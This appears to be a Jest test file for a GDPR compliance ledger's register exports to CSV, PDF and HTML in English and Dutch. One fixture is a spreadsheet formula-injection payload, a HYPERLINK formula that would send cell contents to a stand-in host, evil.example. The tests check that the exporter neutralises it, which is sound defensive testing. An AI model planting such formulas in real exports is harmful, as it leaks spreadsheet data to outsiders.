import { parse } from 'csv-parse/sync';
import { randomUUID } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { HOSTINGHUIS_SCENARIO, SCENARIO_NOW } from '../apps/ledger-cli/src/demo/hostinghuis-scenario';
import { factRecorder } from './support/fact-recorder';
import { client } from './support/http';
import { getBytes } from './support/http-bytes';
import { RunningLedger, startLedger } from './support/ledger-server';
import { pdfText } from './support/pdf-text';
import { convertWithLibreOffice } from './support/libreoffice';

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")';
const DPO_NAME = 'Łukasz Ørsted-Ğündoğdu';

/**
 * The registers as files an auditor accepts: CSV (RFC 4180, UTF-8 with BOM, formulas
 * neutralised) parsed back and compared with the JSON of the same register, a CSV opened by
 * LibreOffice, and the Art. 30 record and the breach register as PDF documents in English and
 * Dutch, with names printed as written and the log position they reflect.
 */
describe('CSV and PDF exports of the registers', () => {
  let ledger: RunningLedger;
  let api: ReturnType<typeof client>;
  const facts = factRecorder(() => api);
  let profileDir: string;

  beforeAll(async () => {
    profileDir = mkdtempSync(join(tmpdir(), 'ledger-profile-'));
    const profile = JSON.parse(readFileSync(join(__dirname, '..', 'config', 'controller-profile.hostinghuis.json'), 'utf8'));
    writeFileSync(join(profileDir, 'profile.json'), JSON.stringify({ ...profile, dpo: { ...profile.dpo, name: DPO_NAME } }));
    ledger = await startLedger({ LEDGER_NOW: SCENARIO_NOW, LEDGER_CONTROLLER_PROFILE: join(profileDir, 'profile.json') });
    api = client(ledger.url, ledger.auth);
    expect((await api.post('/v1/events/batch', { events: HOSTINGHUIS_SCENARIO })).status).toBe(201);
    await facts.record({
      id: randomUUID(),
      type: 'RecipientRegistered',
      occurredAt: '2026-01-01T00:00:00Z',
      recipientId: 'zz-formula',
      data: { name: FORMULA, role: 'processor', country: 'NL' },
    });
    // Reads of subjects, to have an access audit to export; one states a purpose a spreadsheet would run.
    for (const [externalId, purpose] of [
      ['C-1001', 'access request R-1001-1'],
      ['C-1002', '@SUM(A1:A9)'],
      ['C-1004', 'portability request R-1004-1'],
    ]) {
      expect((await api.get(`/v1/subjects?system=customer-portal&externalId=${externalId}`, { 'x-purpose': purpose })).status).toBe(200);
    }
  });
  afterAll(async () => {
    await ledger.close();
    rmSync(profileDir, { recursive: true, force: true });
  });

  /** Every item of a paged register, following `next`. */
  async function allJson(path: string, field: string): Promise<any[]> {
    const items: any[] = [];
    let cursor: string | undefined;
    do {
      const res = await api.get(fresh(`${path}${path.includes('?') ? '&' : '?'}lang=en&limit=2${cursor ? `&cursor=${cursor}` : ''}`));
      expect(res.status).toBe(200);
      items.push(...res.body[field]);
      cursor = res.body.next === undefined ? undefined : String(res.body.next);
    } while (cursor);
    return items;
  }

  async function csvOf(path: string, headers: Record<string, string> = {}) {
    const res = await getBytes(`${ledger.url}${fresh(path)}`, { ...ledger.auth, ...headers });
    expect(res.status).toBe(200);
    return res;
  }

  /** Reads of the read models wait for the facts recorded; the access audit is no read model and takes no minPosition. */
  const fresh = (path: string) => (path.startsWith('/v1/audit/') ? path : facts.fresh(path));

  const rows = (bytes: Buffer, delimiter = ','): string[][] => parse(bytes, { bom: true, delimiter, relax_column_count: false });

  // The cells a JSON value becomes: lists joined by ", ", booleans as words, absent as empty.
  const cell = (v: unknown): string =>
    v === undefined || v === null ? '' : Array.isArray(v) ? neutral(v.join(', ')) : typeof v === 'string' ? neutral(v) : String(v);
  const neutral = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);

  const REGISTERS: [name: string, path: string, field: string, header: string[], row: (item: any) => unknown[]][] = [
    [
      'findings',
      '/v1/findings?status=all',
      'findings',
      ['Finding', 'Rule', 'Article', 'Subject', 'Breach', 'Status', 'Overdue', 'Due', 'Finding since', 'Closed', 'Summary', 'Detail (JSON)'],
      (f) => [f.id, f.rule, f.article, f.subjectId, f.breachId, f.status, f.overdue, f.dueAt, f.visibleFrom, f.closedAt, f.summary, JSON.stringify(f.detail)],
    ],
    [
      'breaches',
      '/v1/breaches',
      'breaches',
      [
        'Breach',
        'Status',
        'Aware',
        'Started',
        'Ended',
        'Ongoing',
        'Nature',
        'Description',
        'Categories of personal data',
        'Categories of data subjects',
        'Approx. data subjects',
        'Approx. records',
        'Subjects linked by systems',
        'Risk',
        'Likely consequences',
        'Measures in place',
        'Remedial action',
        'Notification required',
        'Notification due',
        'Hours left',
        'Authority notified',
        'Hours after awareness',
        'In time',
        'Reason for the delay',
        'Notification phases',
        'Subjects to be told',
        'Subjects told',
        'Channel',
        'Art. 34(3) exemption',
        'Closed',
      ],
      (b) => [
        b.breachId,
        b.status,
        b.facts.awareAt,
        b.facts.startedAt,
        b.facts.endedAt,
        b.facts.ongoing,
        b.facts.nature,
        b.facts.description,
        b.facts.categories,
        b.facts.subjectCategories,
        b.facts.approxSubjects,
        b.facts.approxRecords,
        b.linkedBySystems.subjects,
        b.effects.risk,
        b.effects.consequences,
        b.effects.measuresInPlace,
        b.remedialAction.map((r: any) => `${r.at} ${r.status}: ${r.measures}`).join('\n'),
        b.authorityNotification.required,
        b.authorityNotification.dueAt,
        b.authorityNotification.hoursLeft,
        b.authorityNotification.notifiedAt,
        b.authorityNotification.hoursAfterAwareness,
        b.authorityNotification.inTime,
        b.authorityNotification.delayReason,
        b.authorityNotification.phases.map((p: any) => [p.at, p.phase, p.authority, p.reference].filter(Boolean).join(' ')).join('\n'),
        b.subjectCommunication.required,
        b.subjectCommunication.notifiedAt,
        b.subjectCommunication.channel,
        b.subjectCommunication.exemption?.ground,
        b.closedAt,
      ],
    ],
    [
      'requests',
      '/v1/requests',
      'requests',
      [
        'Request',
        'Subject',
        'Right',
        'Received',
        'Due',
        'Extended until',
        'Reason for the extension',
        'Answered',
        'Answered by (fact)',
        'Answered by (event id)',
        'Status',
      ],
      (r) => [
        r.requestId,
        r.subjectId,
        r.right,
        r.receivedAt,
        r.dueAt,
        r.extendedUntil,
        r.extensionReason,
        r.answeredAt,
        r.answeredBy?.type,
        r.answeredBy?.eventId,
        r.status,
      ],
    ],
    [
      'recipients',
      '/v1/recipients',
      'recipients',
      ['Recipient', 'Name', 'Role', 'Country', 'Outside the EEA', 'Safeguard', 'Processing agreement', 'Registered', 'Updated'],
      (r) => [r.recipientId, r.name, r.role, r.country, r.outsideEea, r.safeguard, r.dpaReference, r.registeredAt, r.updatedAt],
    ],
    [
      'access audit',
      '/v1/audit/access',
      'entries',
      ['Entry', 'Time', 'Key id', 'Key name', 'Role', 'Subject', 'System', 'Outcome', 'Stated purpose', 'Route'],
      (e) => [e.id, e.at, e.keyId, e.keyName, e.role, e.subjectId, e.system, e.outcome, e.purpose, e.route],
    ],
  ];

  it.each(REGISTERS)(
    'exports the %s as CSV that parses back to the JSON of the same register, for ?format=csv and Accept: text/csv',
    async (_name, path, field, header, row) => {
      const json = await allJson(path, field);
      expect(json.length).toBeGreaterThan(0);
      const expected = [header, ...json.map((item) => row(item).map(cell))];
      for (const [query, headers] of [
        ['format=csv&lang=en', {}],
        ['', { accept: 'text/csv', 'accept-language': 'en-GB,en;q=0.9' }],
      ] as const) {
        const csv = await csvOf(`${path}${path.includes('?') ? '&' : '?'}${query}`, headers);
        expect(csv.contentType).toBe('text/csv; charset=utf-8; header=present');
        expect(rows(csv.body)).toEqual(expected);
      }
    },
  );

  it('exports the record of processing as CSV: one row per declared activity, then per undeclared purpose', async () => {
    const record = (await api.get(facts.fresh('/v1/records-of-processing'))).body;
    const [header, ...body] = rows((await csvOf('/v1/records-of-processing?format=csv&lang=en')).body);
    expect(header.slice(0, 4)).toEqual(['Kind', 'Activity', 'Name', 'Purposes']);
    expect(body.map((r) => [r[0], r[1], r[3]])).toEqual([
      ...record.activities.map((a: any) => ['declared', a.activityId, a.purposes.join(', ')]),
      ...record.undeclaredProcessing.map((u: any) => ['undeclared', '', u.purpose]),
    ]);
    const accounts = body.find((r) => r[1] === 'customer-accounts')!;
    expect(accounts[header.indexOf('Recipients')]).toBe('cpanel (US dpf), openprovider (US scc)');
    expect(accounts[header.indexOf('Time limits for erasure')]).toBe('account deleted two years after the last service ended');
  });

  it('writes RFC 4180: a UTF-8 byte-order mark, one header row, CRLF line ends, quotes where a field needs them', async () => {
    const csv = await csvOf('/v1/breaches?format=csv&lang=en');
    expect([...csv.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = csv.body.subarray(3).toString('utf8');
    expect(text.startsWith('Breach,Status,Aware,')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(
      text
        .replace(/"[^"]*"/g, '')
        .split('\n')
        .every((line) => line === '' || line.endsWith('\r')),
    ).toBe(true);
    // A field with a comma is quoted; one with quotes is quoted and its quotes doubled.
    expect(text).toContain(',"None expected: the data cannot be read without the key, which was not on the device.",');
    const recipients = (await csvOf('/v1/recipients?format=csv')).body.toString('utf8');
    expect(recipients).toContain(`zz-formula,"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")",processor,NL,`);
  });

  it('neutralises cells a spreadsheet would run as a formula: a leading =, +, -, @, tab or CR gets a single quote', async () => {
    const recipients = rows((await csvOf('/v1/recipients?format=csv')).body);
    expect(recipients.find((r) => r[0] === 'zz-formula')![1]).toBe(`'${FORMULA}`);
    const audit = rows((await csvOf('/v1/audit/access?format=csv')).body);
    expect(audit.map((r) => r[8])).toContain("'@SUM(A1:A9)");
    // Negative numbers are numbers, not formulas: B-2026-01's hours stay as they are, and so does every instant.
    const breaches = rows((await csvOf('/v1/breaches?format=csv&lang=en')).body);
    for (const row of breaches.slice(1)) for (const value of row) expect(value).not.toMatch(/^[=+@\t\r]/);
  });

  it('writes Dutch headers and semicolons for Excel in a Dutch locale (?delimiter=semicolon&lang=nl), the values unchanged', async () => {
    const comma = rows((await csvOf('/v1/findings?format=csv&lang=en')).body);
    const res = await csvOf('/v1/findings?format=csv&lang=nl&delimiter=semicolon');
    expect(res.body.subarray(3, 40).toString()).toMatch(/^Bevinding;Regel;Artikel;Betrokkene;/);
    const semicolon = rows(res.body, ';');
    expect(semicolon[0]).toEqual([
      'Bevinding',
      'Regel',
      'Artikel',
      'Betrokkene',
      'Datalek',
      'Status',
      'Te laat',
      'Uiterlijk',
      'Bevinding sinds',
      'Gesloten',
      'Samenvatting',
      'Details (JSON)',
    ]);
    // The summaries are in Dutch; every other value is the same.
    expect(semicolon.slice(1).map((r) => r.filter((_, i) => i !== 10))).toEqual(comma.slice(1).map((r) => r.filter((_, i) => i !== 10)));
    expect(semicolon.find((r) => r[1] === 'request-unanswered')![10]).toBe(
      'verzoek om overdraagbaarheid R-1004-1, ontvangen 2026-09-30, is niet beantwoord; uiterlijk 2026-10-30',
    );
  });

  it('names the file and answers 406 when the Accept header asks for nothing it offers', async () => {
    const res = await fetch(`${ledger.url}/v1/findings?format=csv&lang=en`, { headers: ledger.auth });
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="findings-2026-11-24.csv"`);
    await res.arrayBuffer();
    const none = await api.get('/v1/recipients', { accept: 'application/pdf' });
    expect(none.status).toBe(406);
    expect(none.body.message).toContain('text/csv');
  });

  it('opens in LibreOffice: a semicolon CSV in Dutch converts to a spreadsheet, formulas stay text', async () => {
    const csv = (await csvOf('/v1/recipients?format=csv&lang=nl&delimiter=semicolon')).body;
    const { sheet, roundTrip } = await convertWithLibreOffice(csv, 'semicolon');
    expect(sheet.subarray(0, 2).toString()).toBe('PK');
    const cells = parse(roundTrip, { bom: true, delimiter: ';' }) as string[][];
    expect(cells[0].slice(0, 3)).toEqual(['Ontvanger', 'Naam', 'Rol']);
    expect(cells.find((r) => r[0] === 'zz-formula')![1]).toBe(`'${FORMULA}`);
    expect(cells.find((r) => r[0] === 'openprovider')!.slice(0, 4)).toEqual(['openprovider', 'Openprovider', 'processor', 'US']);
  }, 120_000);

  describe('PDF documents', () => {
    const pdf = async (path: string, headers: Record<string, string> = {}) => {
      const res = await getBytes(`${ledger.url}${facts.fresh(path)}`, { ...ledger.auth, ...headers });
      expect(res.status).toBe(200);
      expect(res.contentType).toBe('application/pdf');
      return squash(await pdfText(res.body));
    };
    // Text extraction puts a label and its value together or apart as the layout happens to fall: compare without white space.
    const squash = (text: string) => text.replace(/\s+/g, '');
    const has = (text: string, expected: string) => expect(text).toContain(squash(expected));
    const position = async (projection: string) =>
      (await api.get('/health/ready')).body.readModels.find((m: { name: string }) => m.name === projection).position as number;

    it('prints the Art. 30 record in English: controller, DPO (Ł, Ø, Ğ as written), activities with recipients and countries, page numbers, log position', async () => {
      const text = await pdf('/v1/records-of-processing?format=pdf&lang=en');
      const at = await position('processing-records');
      has(text, 'Record of processing activities');
      has(text, 'HostingHuis B.V. (example profile)');
      has(text, DPO_NAME);
      has(text, 'Customer accounts and hosting services (customer-accounts)');
      has(text, 'Openprovider (US, outside the EEA, standard contractual clauses (Art. 46(2)(c)))');
      has(text, 'Time limits for erasure (f) account deleted two years after the last service ended');
      has(text, `Log position ${at}: this document reflects`);
      expect(text).toMatch(/page1of\d/);
      has(text, 'Not covered by a declared activity: marketing');
      // The name as written, character for character, as a reader copying it out of the PDF gets it.
      const raw = await pdfText((await getBytes(`${ledger.url}/v1/records-of-processing?format=pdf&lang=en`, ledger.auth)).body);
      expect(raw).toContain(`${DPO_NAME}\n`);
    });

    it("prints the Art. 30 record in Dutch, by ?lang=nl or Accept-Language, and by the profile's language when no one asks", async () => {
      for (const [path, headers] of [
        ['/v1/records-of-processing?format=pdf&lang=nl', {}],
        ['/v1/records-of-processing', { accept: 'application/pdf', 'accept-language': 'nl-NL,nl;q=0.9,en;q=0.5' }],
        ['/v1/records-of-processing?format=pdf', {}],
      ] as const) {
        const text = await pdf(path, headers);
        has(text, 'Register van verwerkingsactiviteiten');
        has(text, 'Functionaris gegevensbescherming');
        has(text, DPO_NAME);
        has(text, 'Termijnen voor wissing (f)');
        has(text, 'modelcontractbepalingen');
        expect(text).toMatch(/Logpositie\d+:ditdocument/);
        expect(text).toMatch(/pagina1van\d/);
      }
    });

    it('prints the breach register with every breach, its deadline and how it was met, in English and Dutch', async () => {
      const en = await pdf('/v1/breaches?format=pdf&lang=en');
      has(en, 'Register of personal data breaches');
      for (const id of ['B-2025-01', 'B-2025-02', 'B-2025-03', 'B-2026-01']) has(en, id);
      has(en, 'notified 2025-10-05 09:00 UTC, 97 h after awareness: late');
      has(en, 'not yet notified; due 2026-11-25 08:00 UTC');
      has(en, `Log position ${await position('breaches')}`);
      has(en, DPO_NAME);
      const nl = await pdf('/v1/breaches?format=pdf&lang=nl');
      has(nl, 'Register van datalekken');
      has(nl, 'gemeld 2025-10-05 09:00 UTC, 97 uur na ontdekking: te laat');
      has(nl, 'ca. 5.000 betrokkenen, 40.000 records');
    });

    it('prints the breach summary in Dutch in the sections of the AP notification form, and in English in those of the EDPB template', async () => {
      const nl = await pdf('/v1/breaches/B-2025-03/summary?format=pdf&lang=nl');
      for (const section of [
        '0. Over deze melding',
        '1. Contactgegevens en overige algemene informatie',
        '2. Tijdlijn',
        '3. Gegevens over het datalek',
        '4. Persoonsgegevens die betrokken zijn bij het datalek',
        '5. De groep mensen van wie persoonsgegevens betrokken zijn bij het datalek',
        '6. Maatregelen die zijn getroffen voordat het datalek plaatsvond',
        '7. Gevolgen van het datalek',
        '8. Vervolgacties naar aanleiding van het datalek',
      ]) {
        has(nl, section);
      }
      has(nl, '97 uur na ontdekking: te laat');
      has(nl, `Logpositie ${await position('breaches')}`);
      const en = await pdf('/v1/breaches/B-2025-03/summary?format=pdf', { 'accept-language': 'en' });
      for (const section of [
        '1. Type of notification',
        '2. Controller, reporter and data protection officer',
        '3. Nature of the breach, dates and duration',
        '4. Data subjects and personal data concerned',
        '5. Measures in place before the breach',
        '6. Likely consequences',
        '7. Measures taken or proposed',
        '8. Communication to the data subjects',
      ]) {
        has(en, section);
      }
      has(en, '97 h after awareness: late');
      has(en, DPO_NAME);
    });

    it('states the log position in the HTML documents too, and serves them with a strict CSP', async () => {
      for (const path of [
        '/v1/records-of-processing?format=html&lang=en',
        '/v1/breaches?format=html&lang=en',
        '/v1/breaches/B-2025-03/summary?format=html&lang=en',
      ]) {
        const res = await api.get(facts.fresh(path));
        expect(res.status).toBe(200);
        expect(res.headers.get('content-type')).toBe('text/html; charset=utf-8');
        expect(res.headers.get('content-security-policy')).toMatch(/^default-src 'none'; style-src 'sha256-/);
        expect(res.body).toMatch(/<th scope="row">Log position<\/th><td>\d+: this document reflects/);
        expect(res.body).toContain('<html lang="en">');
      }
    });
  });
});
